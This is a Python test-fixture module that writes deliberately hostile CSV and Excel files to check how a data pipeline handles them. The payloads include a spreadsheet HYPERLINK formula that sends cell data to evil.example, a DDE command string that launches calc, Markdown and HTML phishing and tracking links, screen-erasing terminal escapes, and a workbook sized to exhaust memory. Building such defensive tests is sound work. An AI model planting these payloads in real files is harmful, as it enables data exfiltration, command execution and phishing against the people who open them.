"""Hostile and careless files (issue 9): text a sender can put in a file to draw links,
fetch images, run formulas or move a terminal's cursor, and the files that carry it."""

from __future__ import annotations

import csv
from pathlib import Path

from warehouse.demo import DATA_DIR

# Text a hostile or careless sender can put in a file (issue 9): Markdown that would draw a
# link and fetch a tracking image, HTML and Streamlit directives, spreadsheet formulas, and
# terminal escapes that would move the cursor up and erase the steward's screen.
MARKDOWN_PAYLOAD = "[Resubmit here](https://evil.example/login) ![x](https://evil.example/px.png)"
HTML_PAYLOAD = (
    '<img src="https://evil.example/h.png"> <b>bold</b> :red[alert] $x^2$ www.evil.example '
    "x@evil.example :smile: :material/warning: &#x1F600;"
)
FORMULA_PAYLOAD = '=HYPERLINK("https://evil.example/?d="&A1,"Click")'
COMMAND_PAYLOAD = "+cmd|' /C calc'!A0"
TERMINAL_PAYLOAD = "\x1b[6A\x1b[J26 published + 0 quarantined"
HOSTILE_FILE_NAME = "=1+1 [here](https:evil.example) thanet_2023-24_t4.csv"
TERMLY_HEADER = ["district", "academic_year", "term", "phase", "measure", "value"]


def hostile_return(folder: Path) -> Path:
    """Thanet's 2023-24 term 4 return again, carrying every payload above: the phase of one
    row is the Markdown link and the HTML (so both are in the reason the submission is
    held), a measure the HTML, values the terminal escapes (the first failing value, so
    `stls dq` quotes it), a formula and a command, one district a command, and one value -5
    (a negative number, which must stay a number in every download)."""
    source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_thanet_2023-24_t4.csv"
    rows = list(csv.reader(source.open(encoding="cp1252")))  # as Excel's plain CSV writes
    rows[1][3] = f"{MARKDOWN_PAYLOAD} {HTML_PAYLOAD}"
    rows[2][4] = HTML_PAYLOAD
    rows[3][5] = TERMINAL_PAYLOAD
    rows[4][5] = FORMULA_PAYLOAD
    rows[5][5] = COMMAND_PAYLOAD
    rows[6][0] = COMMAND_PAYLOAD
    rows[7][5] = "-5"
    rows[8][6] = FORMULA_PAYLOAD  # the notes column: kept in raw, never used
    folder.mkdir(parents=True, exist_ok=True)
    path = folder / HOSTILE_FILE_NAME
    with path.open("w", encoding="utf-8", newline="") as handle:
        csv.writer(handle, lineterminator="\n").writerows(rows)
    return path


def far_cell_workbook(folder: Path, name: str = "far.xlsx") -> Path:
    """A 5 KB workbook with a header at A1 and one number at XFD1048576, Excel's last cell:
    read as is, the engine asks for a grid of 17 billion cells and aborts the process."""
    import xlsxwriter

    path = folder / name
    with xlsxwriter.Workbook(str(path)) as book:
        sheet = book.add_worksheet("Return")
        for col, header in enumerate(TERMLY_HEADER):
            sheet.write_string(0, col, header)
        sheet.write_number(1_048_575, 16_383, 1)
    return path


def good_return(folder: Path) -> Path:
    """Swale's 2023-24 term 4 return again, one figure changed: a good file to load beside
    the hostile ones."""
    source = DATA_DIR / "returns" / "2023-24" / "term4" / "stls_return_swale_2023-24_t4.csv"
    text = source.read_text(encoding="utf-8").replace(
        "Swale,2023-24,4,early_years,transition_events,3",
        "Swale,2023-24,4,early_years,transition_events,4",
    )
    path = folder / "swale_2023-24_t4_corrected.csv"
    path.write_text(text, encoding="utf-8")
    return path
